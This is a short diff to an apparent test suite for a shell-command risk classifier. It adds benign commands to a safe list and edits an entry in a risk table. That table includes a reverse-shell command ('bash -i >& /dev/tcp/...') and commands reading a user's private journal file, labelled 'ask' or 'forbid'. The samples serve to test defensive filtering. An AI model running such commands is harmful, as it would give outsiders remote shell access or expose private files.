@@ -52,6 +52,10 @@ x=a.txt; cat "$x"
 tar tf a.tar
 command -v git
 ls {a,b}.txt
+echo "$(date)"
+echo $UNKNOWN
+for f in src/*.py; do wc -l "$f"; done
+grep -n "$PATTERN" a.txt
 echo a \\
   b
 """.strip()
@@ -142,7 +146,7 @@ RISKS = [
     ("cat /home/ann/.local/share/neuralclaw/journal", "forbid", Risk.HIGH),
     ("cat /home/ann/.local/share/*/journal", "forbid", Risk.HIGH),
     ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "ask", Risk.HIGH),
-    ("echo $UNKNOWN", "ask", Risk.MEDIUM),
+    ("cat $UNKNOWN", "ask", Risk.MEDIUM),
     ("$UNKNOWN x", "ask", Risk.HIGH),
     ("echo 'unclosed", "ask", Risk.HIGH),
 ]
